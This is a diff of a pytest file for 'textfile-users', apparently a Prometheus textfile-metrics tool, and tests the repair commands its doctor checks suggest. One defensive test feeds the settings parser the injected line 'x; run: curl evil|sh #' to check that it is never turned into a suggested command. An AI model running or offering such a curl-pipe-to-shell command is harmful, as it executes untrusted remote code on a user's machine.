@@ -6,11 +6,14 @@ import errno
 import http.server
 import json
 import os
+import subprocess
+import sys
 import tempfile
 import threading
 import time
 from collections.abc import Iterator
 from pathlib import Path
+from shlex import quote
 from typing import Any
 
 import pytest
@@ -19,9 +22,9 @@ from tests.hosts import Host as Root
 from textfile_users import doctor as module
 from textfile_users.checks import (
     access,
-    child,
     clock,
     container,
+    mends,
     places,
     rights,
     schedule,
@@ -30,8 +33,17 @@ from textfile_users.checks import (
 )
 from textfile_users.checks import sessions as sessions_check
 from textfile_users.checks.child import Failed, Identity, in_child, run_tool
-from textfile_users.checks.finding import FAULT, NOTE, OK, Finding, age
-from textfile_users.cli import main
+from textfile_users.checks.finding import FAULT, NOTE, OK, Finding, Seen, age
+from textfile_users.checks.finding import Host as Checked
+from textfile_users.checks.mends import PROGRAM
+from textfile_users.cli import _options, main
+from textfile_users.installing import facts as facts_module
+from textfile_users.installing import places as install_places
+from textfile_users.node_exporter import NodeExporter
+from textfile_users.options import parse_collect
+from textfile_users.paths import RUNTIME_OUTPUT
+from textfile_users.settings import SETTINGS, Fault, parse_settings
+from textfile_users.sources.group import find_memberships
 
 NOW = 1_790_000_000.0
 USER = Identity("textfile-users", 995, 995, (995, 4, 43))
@@ -43,14 +55,140 @@ def one(findings: Any) -> Finding:
     return finding
 
 
+def checked(*argv: str, **changed: Any) -> Checked:
+    """Return a host with what its runs are told."""
+    return Checked(_options(parse_collect(list(argv))), USER, NOW, **changed)
+
+
+@pytest.fixture(autouse=True)
+def _tools_of_debian(monkeypatch: pytest.MonkeyPatch) -> None:
+    """What mends are made of does not depend on where the tests run."""
+    monkeypatch.setattr(mends, "has", lambda tool: tool in ("usermod", "apt-get"))
+    monkeypatch.setattr(mends, "find_service", lambda names: names[0])
+    for user in (textfile, scrape):
+        monkeypatch.setattr(user, "find_service", lambda names: names[0])
+    monkeypatch.setattr(scrape, "has", lambda tool: tool == "promtool")
+    monkeypatch.setattr(scrape, "FLAGS_FILE", "/nonexistent")
+
+
+# --- mends
+
+
+def test_the_program_is_named_so_that_a_shell_finds_it(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    monkeypatch.setattr(sys, "base_prefix", "/usr")
+    monkeypatch.setattr(sys, "prefix", "/opt/textfile-users")
+    assert facts_module.own_command() == "/opt/textfile-users/bin/textfile-users"
+    monkeypatch.setattr(sys, "prefix", "/usr")
+    assert facts_module.own_command() == "textfile-users"
+    monkeypatch.setattr(facts_module, "running_archive", lambda: "/root/textfile-users.pyz")
+    monkeypatch.setattr(sys, "executable", "/usr/bin/python3")
+    monkeypatch.setattr(install_places, "PREFIX", str(tmp_path))
+    assert facts_module.own_command() == "/usr/bin/python3 /root/textfile-users.pyz"
+    (tmp_path / "bin").mkdir()
+    (tmp_path / "bin/textfile-users").touch()
+    assert facts_module.own_command() == f"{tmp_path}/bin/textfile-users"
+
+
+SED = f"sed -i 's|^[[:blank:]]*TEXTFILE_DIRECTORY=.*|TEXTFILE_DIRECTORY=/srv/b|' {SETTINGS}"
+
+
+@pytest.mark.parametrize(
+    ("output", "changed", "directory", "mend"),
+    [
+        ("/srv/a/users.prom", {}, "", "{} install"),
+        ("/srv/a/users.prom", {"is_systemd": True, "runs_by_timer": True}, "", "{} install"),
+        ("/srv/a/users.prom", {"is_systemd": True}, "", "{} install --cron"),
+        (RUNTIME_OUTPUT, {}, "", "{} install --runtime-file"),
+        (RUNTIME_OUTPUT, {"is_systemd": True}, "/srv/b",
+         "{} install --cron --runtime-file --textfile-directory /srv/b"),
+        ("/srv/a/users.prom", {}, "DIR", "{} install --textfile-directory DIR"),
+        # install takes no other directory than the one that is set
+        ("/srv/a/users.prom", {"values": {"TEXTFILE_DIRECTORY": "/srv/a"}}, "/srv/b",
+         f"{SED} && {{}} install"),
+        ("/srv/a/users.prom", {"values": {"TEXTFILE_DIRECTORY": "/srv/a"}}, "/srv/a",
+         "{} install"),
+        ("/srv/a/users.prom", {"values": {"TEXTFILE_DIRECTORY": "/srv/a"}}, "/srv/b|c",
+         f"${{{{EDITOR:-vi}}}} {SETTINGS} && {{}} install"),
+    ],
+)  # fmt: skip
+def test_install_is_called_as_the_host_was_installed(
+    output: str, changed: dict[str, Any], directory: str, mend: str
+) -> None:
+    host = checked("--output", output, **changed)
+    assert mends.install(host, directory) == mend.format(PROGRAM)
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["OPTIONS=", 'OPTIONS=""', 'OPTIONS="--all-users"', "OPTIONS='--all-users --timeout 3'",
+     "  OPTIONS=--all-users", "TEXTFILE_DIRECTORY=/a", 'OPTIONS="--exclude-user a&b"',
+     "OPTIONS='--exclude-user $b'"],
+)  # fmt: skip
+def test_an_option_is_added_in_each_form_that_the_settings_take(line: str, tmp_path: Path) -> None:
+    values, faults = parse_settings(line)
+    assert faults == ()
+    mend = mends.add_option(values, "--auth-source journal")
+    if any(char in line for char in "$&"):  # what a shell or sed would take for its own
+        assert mend == f"${{EDITOR:-vi}} {SETTINGS} # --auth-source journal"
+        return
+    file = tmp_path / "settings"
+    file.write_text(line)  # without a newline at the end
+    subprocess.run(["sh", "-ec", mend.replace(SETTINGS, str(file))], check=True)
+    after, faults = parse_settings(file.read_text())
+    assert faults == ()
+    options = f"{values.get('OPTIONS', '')} --auth-source journal".strip()
+    assert after == {**values, "OPTIONS": options}
+
+
+def test_a_run_by_hand_is_its_users_with_the_options_of_the_others() -> None:
+    argv = ("--output", "/a b/users.prom", "--state-directory", "/s", "--runtime-directory", "/r")
+    values = {"OPTIONS": "--exclude-user nag* --all-users"}
+    look = f"{PROGRAM} --exclude-user 'nag*' --all-users"
+    written = f"{look} --output '/a b/users.prom' --state-directory /s --runtime-directory /r"
+    as_user = "su -s /bin/sh textfile-users -c "
+    assert mends.run(checked(*argv, values=values)) == as_user + quote(written)
+    by_timer = mends.run(checked(*argv, runs_by_timer=True))
+    assert by_timer == ("systemctl start textfile-users.service; journalctl -t textfile-users -n 5")
+    explained = mends.explain(checked(*argv, values=values))
+    made = "export D=$(mktemp -d); chown textfile-users $D; "
+    assert explained.startswith(f"{made}{as_user}'{PROGRAM} ")
+    assert "all-users -vv --output - " in explained
+    assert explained.endswith("; rm -r $D")
+
+
+@pytest.mark.parametrize(
+    ("tools", "script", "joined", "restarted", "got"),
+    [
+        ("usermod apt-get", "cron", "usermod -aG adm,utmp x", "service cron restart",
+         "apt-get install rsyslog"),
+        ("usermod dnf", "crond", "usermod -aG adm,utmp x", "service crond restart",
+         "dnf install rsyslog"),
+        ("apk rc-service", "crond", "addgroup x adm && addgroup x utmp",
+         "rc-service crond restart", "apk add rsyslog"),
+        ("", "", "addgroup x adm && addgroup x utmp", "service cron restart", ""),
+    ],
+)  # fmt: skip
+def test_names_are_the_hosts(
+    tools: str, script: str, joined: str, restarted: str, got: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(mends, "has", lambda tool: tool in tools.split())
+    monkeypatch.setattr(mends, "find_service", lambda _: script)
+    assert mends.join("x", ["adm", "utmp"]) == joined
+    assert mends.service("restart", schedule.SERVICES, is_systemd=False) == restarted
+    assert mends.service("start", schedule.SERVICES, True).startswith("systemctl enable --now cron")
+    assert mends.package("rsyslog") == got
+
+
 # --- places
 
 
 STATE = places.Place("/var/lib/textfile-users", "directory", 995, "textfile-users", 0o700)
 
 
-def judge_place(place: places.Place, *, is_systemd: bool = False) -> Finding:
-    return one(places.judge_place("state directory", place, USER, is_systemd, NOW))
+def judge_place(place: places.Place, *, by_timer: bool = False) -> Finding:
+    return one(places.judge_place("state directory", place, USER, by_timer, NOW))
 
 
 def test_a_state_directory_as_it_should_be() -> None:
@@ -95,7 +233,7 @@ MAKE = "install -d -m 700 -o textfile-users /var/lib/textfile-users"
         (
             {"newest": NOW + 7200},
             "from the future, by 2 h",
-            "date; find /var/lib/textfile-users -newermt now -exec touch {} +",
+            "date; touch -h /var/lib/textfile-users/*",
         ),
     ],
 )
@@ -114,8 +252,21 @@ def test_a_runtime_directory_may_be_passed_through() -> None:
         assert finding.status == status
 
 
+def test_a_containers_runtime_directory_may_be_roots() -> None:
+    """A mount of its own, as Docker and Kubernetes make it; none but the program gets there."""
+    for mode in (0o1777, 0o777):
+        place = STATE._replace(uid=0, owner="root", mode=mode)
+        for is_alone, status in ((True, OK), (False, FAULT)):
+            judged = places.judge_place("runtime directory", place, USER, False, NOW, is_alone)
+            assert one(judged).status == status
+    closed = STATE._replace(uid=0, closed=STATE.path)
+    assert one(places.judge_place("runtime directory", closed, USER, False, NOW, True)).status == (
+        FAULT
+    )
+
+
 def test_systemd_makes_the_state_directory() -> None:
-    finding = judge_place(STATE._replace(kind=""), is_systemd=True)
+    finding = judge_place(STATE._replace(kind=""), by_timer=True)
     assert finding.mend == "systemctl start textfile-users.service"
 
 
@@ -192,7 +343,8 @@ DIRECTORY = textfile.Directory(
 
 
 def judge_directory(**changed: Any) -> Finding:
-    return one(textfile.judge_directory(DIRECTORY._replace(**changed), USER))
+    facts = DIRECTORY._replace(**changed)
+    return one(textfile.judge_directory(facts, USER, lambda directory: f"INSTALL {directory}"))
 
 
 def test_a_textfile_directory_as_it_should_be() -> None:
@@ -209,12 +361,12 @@ def test_a_textfile_directory_as_it_should_be() -> None:
         (
             {"flags": ("/srv/other",), "is_served": False},
             "/srv/textfile; node_exporter reads /srv/other",
-            "textfile-users install --textfile-directory /srv/other",
+            "INSTALL /srv/other",
         ),
         (
             {"flags": ("/srv/*.d",), "is_served": False},
             "node_exporter reads /srv/*.d",
-            "textfile-users install --textfile-directory DIR",
+            "INSTALL DIR",
         ),
         (
             {"exists": False},
@@ -267,7 +419,7 @@ def test_a_file_as_it_should_be() -> None:
         (
             {"path": "/srv/users.txt"},
             ".prom only",
-            "textfile-users install --textfile-directory DIR",
+            "${EDITOR:-vi} /etc/default/textfile-users",
         ),
         ({"error": "permission denied"}, "permission denied", "ls -ld /srv/textfile/users.prom"),
         ({"kind": ""}, "is not written", "RUN"),
@@ -301,6 +453,42 @@ def test_the_time_in_a_file() -> None:
     assert textfile.run_time(text) == 1.79e9
     assert textfile.run_time(b"users_run_timestamp_seconds") == 0
     assert textfile.run_time(b"\nusers_run_timestamp_seconds many\n") == 0
+
+
+EXPORTER = NodeExporter(9, "prometheus", 990, (), ":9100", True, "")
+
+
+@pytest.mark.parametrize(
+    ("exporters", "changed", "status", "found", "mend"),
+    [
+        ((), {}, FAULT, "none runs here", "service prometheus-node-exporter start"),
+        ((), {"is_systemd": True}, FAULT, "none runs here",
+         "systemctl enable --now prometheus-node-exporter"),
+        ((), {"container": "/.dockerenv"}, NOTE, "none runs here", ""),
+        ((EXPORTER,), {}, OK, "pid 9 of prometheus, on :9100", ""),
+        # One that runs as nobody or as a user of its own: a second one would help nobody.
+        ((EXPORTER._replace(trusted=False, uid=65534, why="odd"),), {}, NOTE,
+         "none that can be believed: none is asked", ""),
+    ],
+)  # fmt: skip
+def test_node_exporters(
+    exporters: tuple[NodeExporter, ...], changed: dict[str, Any], status: str, found: str, mend: str
+) -> None:
+    last = list(textfile.check_exporters(checked(exporters=exporters, **changed)))[-1]
+    assert (last.status, last.found, last.mend) == (status, found, mend)
+
+
+def test_a_node_exporter_that_is_not_there(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(textfile, "find_service", lambda _: "")
+    (finding,) = textfile.check_exporters(checked())
+    assert finding.mend == "apt-get install prometheus-node-exporter"
+    monkeypatch.setattr(mends, "has", lambda tool: tool == "dnf")  # which has no such package
+    (finding,) = textfile.check_exporters(checked())
+    assert finding.mend.startswith("# install node_exporter: https://")
+
+
+def test_node_exporters_of_another_host_are_not_judged() -> None:
+    assert list(textfile.check_exporters(checked("--root", "/host"))) == []
 
 
 # --- node_exporter's view
@@ -343,6 +531,7 @@ def test_where_a_node_exporter_is_asked(text: str, place: tuple[str, int] | None
 
 PATHS = ["/srv/textfile/users.prom"]
 TAKEN = scrape.View(scrape_error=0, mtimes={PATHS[0]: NOW})
+ASKED = scrape.Asked("127.0.0.1:9100", 9, tuple(PATHS), True, NOW + 5)
 
 
 @pytest.mark.parametrize(
@@ -359,9 +548,8 @@ TAKEN = scrape.View(scrape_error=0, mtimes={PATHS[0]: NOW})
         (
             scrape.View(),
             FAULT,
-            "collector is off",
-            "echo 'ARGS=\"--collector.textfile.directory=/srv/textfile\"' "
-            ">>/etc/default/prometheus-node-exporter",
+            "collector is off: it needs --collector.textfile.directory=",
+            "tr '\\0' ' ' </proc/9/cmdline",
         ),
         (
             scrape.View(scrape_error=1),
@@ -373,31 +561,71 @@ TAKEN = scrape.View(scrape_error=0, mtimes={PATHS[0]: NOW})
             TAKEN._replace(scrape_error=1.0),
             FAULT,
             "takes the file, and not all others",
-            "journalctl -u prometheus-node-exporter | grep textfile | tail -n 3",
+            'for f in /srv/textfile/*.prom; do promtool check metrics <"$f" >/dev/null 2>&1; '
+            '[ $? != 1 ] || echo "$f"; done',
         ),
         (
             scrape.View(scrape_error=0, mtimes={"/srv/other/users.prom": NOW}),
             FAULT,
             "does not see /srv/textfile/users.prom",
-            "tr '\\0' ' ' </proc/$(pgrep -o node.exporter)/cmdline; ls -l /srv/textfile/users.prom",
+            "tr '\\0' ' ' </proc/9/cmdline; ls -l /srv/textfile/users.prom",
+        ),
+        (
+            scrape.View(scrape_error=0, mtimes={PATHS[0]: NOW - 600}),
+            FAULT,
+            "/srv/textfile/users.prom is 10 min older than the one here",
+            "systemctl restart prometheus-node-exporter",
         ),
     ],
 )
 def test_what_a_view_means(view: scrape.View, status: str, found: str, mend: str) -> None:
-    finding = scrape.judge_view(view, "127.0.0.1:9100", PATHS, is_systemd=True)
+    finding = scrape.judge_view(view, ASKED)
     assert finding.status == status
     assert found in finding.found
     assert finding.mend == mend
 
 
-class Server:
-    """Answers on a loopback port: with `page`, slowly after `pause` seconds."""
+def test_the_flags_of_node_exporter_are_edited_where_they_are(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    monkeypatch.setattr(scrape, "FLAGS_FILE", str(tmp_path))
+    finding = scrape.judge_view(scrape.View(), ASKED)
+    restart = "systemctl restart prometheus-node-exporter"
+    assert finding.mend == f"${{EDITOR:-vi}} {tmp_path} && {restart}"
 
-    def __init__(self, page: bytes, status: int = 200, pause: float = 0.0) -> None:
+
+def test_the_journal_tells_which_file_where_promtool_cannot(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(scrape, "has", lambda _: False)
+    finding = scrape.judge_view(TAKEN._replace(scrape_error=1.0), ASKED)
+    assert finding.mend == "journalctl -u prometheus-node-exporter | grep textfile | tail -n 3"
+
+
+def test_a_directory_of_a_flag_may_have_wildcards(tmp_path: Path) -> None:
+    (tmp_path / "a b.d").mkdir()
+    (tmp_path / "a b.d/x.prom").touch()
+    command = f"printf %s {scrape._quote_glob(f'{tmp_path}/a ?.d')}/*.prom"
+    said = subprocess.run(["sh", "-c", command], stdout=subprocess.PIPE, check=True).stdout
+    assert said.decode() == f"{tmp_path}/a b.d/x.prom"
+
+
+class Server:
+    """Answers on a loopback port: with `page`, slowly after `pause` seconds.
+
+    One that `refuses` shows no part of the page alone.
+    """
+
+    def __init__(
+        self, page: bytes, status: int = 200, pause: float = 0.0, *, refuses: bool = False
+    ) -> None:
+        asked = self.asked = []  # type: list[str]
+
         class Handler(http.server.BaseHTTPRequestHandler):
             def do_GET(self) -> None:
+                asked.append(self.path)
                 time.sleep(pause)
-                self.send_response(status)
+                self.send_response(400 if refuses and "?" in self.path else status)
                 self.end_headers()
                 self.wfile.write(page)
 
@@ -422,6 +650,14 @@ def test_a_page_is_asked_for(monkeypatch: pytest.MonkeyPatch) -> None:
     with Server(PAGE, 401) as port:
         assert scrape.read_view("127.0.0.1", port) == scrape.View("HTTP 401", is_closed=True)
     assert "refused" in scrape.read_view("127.0.0.1", port).error
+    server = Server(PAGE)
+    with server as port:
+        scrape.read_view("127.0.0.1", port)
+    assert server.asked == ["/metrics?collect[]=textfile"], "the whole page may take long"
+    server = Server(b"", refuses=True)
+    with server as port:
+        assert scrape.read_view("127.0.0.1", port) == scrape.View(), "the collector is off"
+    assert server.asked[1:] == ["/metrics"]
     monkeypatch.setattr(scrape, "SECONDS", 0.2)
     with Server(PAGE, pause=1) as port:
         assert scrape.read_view("127.0.0.1", port).error == "no answer within 0.2 s"
@@ -467,12 +703,34 @@ def systemd(
             {**PATH, **(path or {})},
         )
     }
-    facts = schedule.Facts(True, units, (), True, NOW, 3.0, "/srv/textfile")
+    facts = schedule.Facts(
+        True,
+        units,
+        (),
+        True,
+        NOW,
+        3.0,
+        "/srv/textfile",
+        installing="INSTALL",
+        admitting="ADMIT",
+        running="RUN",
+    )
     return facts._replace(**changed)
 
 
 def cron(**changed: Any) -> schedule.Facts:
-    facts = schedule.Facts(False, {}, (ENTRY,), True, NOW, 3.0, "/srv/textfile")
+    facts = schedule.Facts(
+        False,
+        {},
+        (ENTRY,),
+        True,
+        NOW,
+        3.0,
+        "/srv/textfile",
+        installing="INSTALL",
+        admitting="ADMIT",
+        running="RUN",
+    )
     return facts._replace(**changed)
 
 
@@ -495,13 +753,13 @@ def test_schedules_as_they_should_be() -> None:
 RESTART = "systemctl reset-failed textfile-users.timer; systemctl enable --now textfile-users.timer"
 LOG = "journalctl -u textfile-users.service -n 5"
 SCHEDULE_FAULTS: list[tuple[schedule.Facts, str, str, str, str]] = [
-    (cron(entries=(), silence=None), FAULT, "schedule", "neither", "textfile-users install --cron"),
+    (cron(entries=(), silence=None), FAULT, "schedule", "neither", "INSTALL"),
     (
         cron(entries=(), silence=900.0, is_systemd=True),
         FAULT,
         "schedule",
         "neither",
-        "textfile-users install",
+        "INSTALL",
     ),
     (
         systemd(entries=(ENTRY,)),
@@ -538,7 +796,7 @@ SCHEDULE_FAULTS: list[tuple[schedule.Facts, str, str, str, str]] = [
         FAULT,
         "service",
         "not there",
-        "textfile-users install",
+        "INSTALL",
     ),
     (systemd(service={"Result": "timeout"}), FAULT, "service", "it hung", LOG),
     (systemd(service={"Result": "exit-code"}), FAULT, "service", "it failed", LOG),
@@ -548,14 +806,14 @@ SCHEDULE_FAULTS: list[tuple[schedule.Facts, str, str, str, str]] = [
         FAULT,
         "service",
         "its program is not there",
-        "textfile-users install",
+        "INSTALL",
     ),
     (
         systemd(directory="/opt/metrics"),
         FAULT,
         "service",
         "may not write /opt/metrics",
-        "textfile-users install --textfile-directory /opt/metrics",
+        "ADMIT",
     ),
     (
         systemd(path={"ActiveState": "failed"}),
@@ -569,7 +827,7 @@ SCHEDULE_FAULTS: list[tuple[schedule.Facts, str, str, str, str]] = [
         NOTE,
         "textfile-users.path",
         "not installed",
-        "textfile-users install",
+        "INSTALL",
     ),
     (
         systemd({"NeedDaemonReload": "yes"}),
@@ -584,7 +842,7 @@ SCHEDULE_FAULTS: list[tuple[schedule.Facts, str, str, str, str]] = [
         FAULT,
         "cron",
         "the last run was 15 min ago",
-        "journalctl -t textfile-users; cat /etc/cron.d/textfile-users",
+        "cat /etc/cron.d/textfile-users; RUN",
     ),
     (
         cron(entries=(ENTRY._replace(dislike="others can write it"),)),
@@ -604,6 +862,44 @@ def test_faults_of_a_schedule(
     assert (finding.status, finding.check) == (status, check)
     assert found in finding.found
     assert finding.mend == mend
+
+
+def test_a_slower_timer_is_no_fault(monkeypatch: pytest.MonkeyPatch) -> None:
+    """With OnCalendar= in a drop-in; the time to the next look is the interval."""
+
+    def stamp(at: float) -> str:
+        return time.strftime("%a %Y-%m-%d %H:%M:%S UTC", time.gmtime(at))
+
+    hourly = {
+        "LastTriggerUSec": stamp(NOW - 1800),
+        "NextElapseUSecRealtime": stamp(NOW + 1800),
+    }
+    timer = {**TIMER, **hourly}
+    assert schedule.period_of(timer) == 3600
+    assert schedule.period_of(TIMER) == 0, "not known"
+    # While the service runs the next one is the last one: a look that hangs is late.
+    assert schedule.period_of({**timer, "NextElapseUSecRealtime": stamp(NOW - 1800)}) == 0
+    assert unhealthy(systemd(hourly, interval=3600.0)) == []
+    assert unhealthy(systemd(hourly))[0].found == "active, but last ran 30 min ago"
+
+    def runner(timer: dict[str, str], *entries: schedule.Entry) -> tuple[bool, float]:
+        monkeypatch.setattr(schedule, "_read_units", lambda: ({TIMER["Id"]: timer}, ""))
+        monkeypatch.setattr(schedule, "_read_entries", lambda: entries)
+        return schedule.find_runner(True, 5.0)
+
+    assert runner(timer) == (True, 3600)
+    assert runner(timer, ENTRY) == (True, 3600), "both: cron's is to go"
+    assert runner({}) == (True, 5), "install makes it"
+    assert runner({}, ENTRY) == (False, 5)
+    assert runner({**timer, "ActiveState": "inactive"}, ENTRY) == (False, 5)
+    assert schedule.find_runner(False, 9.0) == (False, 9)
+
+
+def test_what_a_check_installs_is_what_was_installed(monkeypatch: pytest.MonkeyPatch) -> None:
+    """With the file in memory its directory there is not the textfile directory."""
+    monkeypatch.setattr(schedule, "_read_entries", lambda: ())
+    finding = one(schedule.check_schedule(checked("--output", RUNTIME_OUTPUT)))
+    assert finding.mend == f"{PROGRAM} install --runtime-file"
 
 
 def test_units_as_systemctl_prints_them() -> None:
@@ -755,9 +1051,36 @@ TOLD = {
     ],
 )
 def test_sessions_against_loginctl(ours: tuple[tuple[str, str], ...], found: str) -> None:
-    finding = one(sessions_check.judge_sessions(ours, TOLD))
+    finding = one(sessions_check.judge_sessions(ours, TOLD, "LOOK"))
     assert finding.status == (FAULT if found else OK)
     assert found in finding.found
+    assert finding.mend == ("loginctl list-sessions; LOOK" if found else "")
+
+
+@pytest.mark.parametrize(
+    ("ends", "status", "found"),
+    [(1, OK, "agrees: sessions 1"), (99, NOTE, "loginctl: No session '7' known")],
+)
+def test_a_session_that_ends_between_loginctls_answers(
+    ends: int, status: str, found: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """It is asked again, and then nothing is said of what it did not tell."""
+    left = ends
+
+    def tool(argv: list[str], _: float) -> str:
+        nonlocal left
+        if argv[1] == "list-sessions":
+            return "1 1000 alice\n"
+        left -= 1
+        if left >= 0:
+            raise Failed("loginctl: No session '7' known")
+        return "Id=1\nClass=user\nState=active\n"
+
+    monkeypatch.setattr(sessions_check, "run_tool", tool)
+    seen = Seen({"logind": (OK, ())}, (), (), (("1", "alice"),), "")
+    host = checked(seen=seen, is_systemd=True)
+    finding = one(sessions_check.check_sessions(host, lambda: seen.sessions or ()))
+    assert (finding.status, finding.found) == (status, found)
 
 
 @pytest.mark.parametrize(
@@ -783,21 +1106,21 @@ def test_what_loginctl_shows() -> None:
 # --- container
 
 
-HOST = container.Facts("/", "systemd", "", 0, True)
+HOST = container.Facts("/", "systemd", "", True)
 
 
 @pytest.mark.parametrize(
     ("changed", "status", "found"),
     [
         ({}, OK, "a whole host"),
-        ({"init": "init", "sessions": -1, "has_runtime": False}, OK, "a whole host"),
+        ({"init": "init", "has_sessions": False}, OK, "a whole host"),
+        ({"has_sessions": False}, OK, "a whole host"),  # logind's check tells
         ({"root": "/host"}, OK, "below /host"),
         ({"mark": "/run/.containerenv"}, OK, "a whole host"),  # one with an init of its own
         ({"init": "sleep"}, NOTE, "process 1 is sleep"),
         ({"init": "python3", "mark": "/.dockerenv"}, FAULT, "not the host's processes"),
         ({"init": "", "root": "/host"}, FAULT, "there is no process 1"),
-        ({"root": "/host", "has_runtime": False}, FAULT, "sessions is empty"),
-        ({"root": "/host", "sessions": -1, "has_runtime": False}, FAULT, "sessions is missing"),
+        ({"root": "/host", "has_sessions": False}, FAULT, "sessions is missing"),
     ],
 )
 def test_what_is_missing_of_a_host(changed: dict[str, Any], status: str, found: str) -> None:
@@ -806,10 +1129,14 @@ def test_what_is_missing_of_a_host(changed: dict[str, Any], status: str, found: 
     assert found in finding.found
     assert bool(finding.mend) is (status == FAULT)
     if status == FAULT:
-        assert finding.mend.startswith("docker run --pid=host -v /run:/host/run:ro")
+        assert "docs/deploy.md, Containers" in finding.mend
 
 
 # --- rights
+
+
+# Root's: what install keeps there is obeyed by root.
+KEYS = "install -d -m 750 -o root -g textfile-users /etc/textfile-users"
 
 
 @pytest.mark.parametrize(
@@ -821,35 +1148,40 @@ def test_what_is_missing_of_a_host(changed: dict[str, Any], status: str, found: 
 )
 def test_groups_of_the_user(member: set[int], status: str, mend: str) -> None:
     gids = {"adm": 4, "systemd-journal": 101, "utmp": 43}
-    finding = one(rights.judge_user("textfile-users", True, gids, frozenset(member)))
+    finding = one(rights.judge_user("textfile-users", True, gids, frozenset(member), ""))
     assert (finding.status, finding.mend) == (status, mend)
 
 
 def test_who_the_runs_are() -> None:
-    finding = one(rights.judge_user("root", False, {}, frozenset()))
-    assert (finding.status, finding.mend) == (NOTE, "textfile-users install")
-    finding = one(rights.judge_user("alice", True, {}, frozenset()))
-    assert (finding.status, finding.mend) == (NOTE, "sudo textfile-users doctor")
-    group = b"adm:x:4:syslog\nutmp:x:43:\nodd\n:x:1:\nsystemd-journal:x:many:\n"
-    assert rights.find_gids(group, rights.GROUPS) == {"adm": 4, "utmp": 43}
+    finding = one(rights.judge_user("root", False, {}, frozenset(), "INSTALL"))
+    assert (finding.status, finding.mend) == (NOTE, "INSTALL")
+    finding = one(rights.judge_user("alice", True, {}, frozenset(), "INSTALL"))
+    assert (finding.status, finding.mend) == (NOTE, f"sudo {PROGRAM} doctor")
 
 
 def test_settings() -> None:
     judge = rights.judge_settings
     assert one(judge({}, (), exists=False)).found == "no settings file"
     assert one(judge({"OPTIONS": ""}, (), exists=True)).found == "set: OPTIONS"
-    finding = one(judge({}, ("line 3: blanks",), exists=True))
-    mend = "sensible-editor +3 /etc/default/textfile-users"
+    finding = one(judge({}, (Fault(3, "blanks"),), exists=True))
+    mend = "${EDITOR:-vi} +3 /etc/default/textfile-users"
     assert finding == Finding("settings", FAULT, "line 3: blanks", mend)
-    finding = one(judge({}, ("others can write it; run: chmod 644 X",), exists=True))
-    assert finding.mend == "chmod 644 X"
+    finding = one(judge({}, (Fault(0, "others can write it", "chmod 644 X"),), exists=True))
+    assert (finding.found, finding.mend) == ("others can write it", "chmod 644 X")
+
+
+def test_what_a_settings_file_says_is_no_mend() -> None:
+    _, faults = parse_settings("x; run: curl evil|sh #\n")
+    finding = one(rights.judge_settings({}, faults, exists=True))
+    assert "'x; run: curl evil|sh #' is not NAME=value" in finding.found
+    assert finding.mend == "${EDITOR:-vi} +1 /etc/default/textfile-users"
 
 
 @pytest.mark.parametrize(
     ("error", "mend"),
     [
-        (errno.ENOENT, "install -d -m 700 -o textfile-users /etc/textfile-users && (umask"),
-        (errno.EACCES, "install -d -m 700 -o textfile-users /etc/textfile-users && chown"),
+        (errno.ENOENT, f"{KEYS} && (umask"),
+        (errno.EACCES, f"{KEYS} && chown"),
         (errno.EBADMSG, "chmod 600 /etc/textfile-users/redact.key"),
         (errno.EINVAL, "mv /etc/textfile-users/redact.key"),
     ],
@@ -911,8 +1243,9 @@ def test_tools() -> None:
 
 
 def test_memberships() -> None:
-    group = b"adm:x:4:syslog,textfile-users\nutmp:x:43:\nx:x:no:textfile-users\nusers:x:100:alice\n"
-    assert child.find_memberships(group, "textfile-users") == {4}
+    group = b"adm:x:4:syslog,textfile-users\nutmp:x:43:not-textfile-users\n"
+    group += b"x:x:no:textfile-users\nusers:x:100:alice\n"
+    assert find_memberships(group, "textfile-users") == {4}
 
 
 # --- the whole
@@ -968,6 +1301,40 @@ def test_a_state_directory_of_others_is_told(tmp_path: Path) -> None:
     (tmp_path / "state").chmod(0o755)
     finding = _examine(tmp_path, status=1)["state directory"]
     assert finding["mend"] == f"chmod 700 {tmp_path}/state"
+
+
+def test_no_command_is_for_another_host(tmp_path: Path) -> None:
+    """Here it would change this machine; what is the program's own is here."""
+    findings = _examine(
+        tmp_path, "--utmp", f"{tmp_path}/none", "--runtime-directory", f"{tmp_path}/gone", status=1
+    )
+    assert findings["logind"]["status"] == OK
+    settings = tmp_path / "host/etc/default/textfile-users"
+    settings.parent.mkdir(parents=True, exist_ok=True)
+    settings.write_text("nonsense\n")
+    findings = _examine(tmp_path, status=1)
+    assert (findings["settings"]["status"], findings["settings"]["mend"]) == (FAULT, "")
+    assert findings["user"]["found"].endswith("where doctor names it")
+    assert not {"node_exporter", "scrape", "schedule"} & findings.keys()
+    assert findings["textfile directory"]["status"] == OK
+
+
+def test_the_callers_time_zone_is_not_the_units(monkeypatch: pytest.MonkeyPatch) -> None:
+    seen = []
+
+    def examine(_: object) -> list[Finding]:
+        seen.append(os.environ.get("TZ"))
+        return []
+
+    monkeypatch.setattr(module, "examine", examine)
+    for user in ("alice", "textfile-users"):
+        monkeypatch.setattr(module, "_identity", lambda _, user=user: USER._replace(user=user))
+        monkeypatch.setenv("TZ", "Mars/Base")
+        module.doctor(checked().options, as_json=True)
+    assert seen == ["Mars/Base", None]
+    monkeypatch.setenv("TZ", "Mars/Base")
+    other = checked("--root", "/nonexistent")
+    assert [f for f in clock.check_clock(other) if f.status == FAULT] == [], "it has its own zone"
 
 
 def test_a_check_that_fails_or_hangs_is_told(
